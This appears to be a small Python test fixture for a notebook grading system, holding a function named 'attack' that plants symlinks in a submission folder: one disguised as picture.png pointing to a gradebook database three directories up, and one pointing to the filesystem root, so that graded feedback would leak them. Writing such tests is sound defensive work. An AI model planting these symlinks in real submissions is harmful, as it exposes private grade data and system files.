"""A picture beside the notebook is a link to the gradebook: it would be copied into what the student gets."""
import os

def attack(notebook, folder):
    os.symlink("../../../gradebook.db", folder / "picture.png")
    os.symlink("/", folder / "folder")
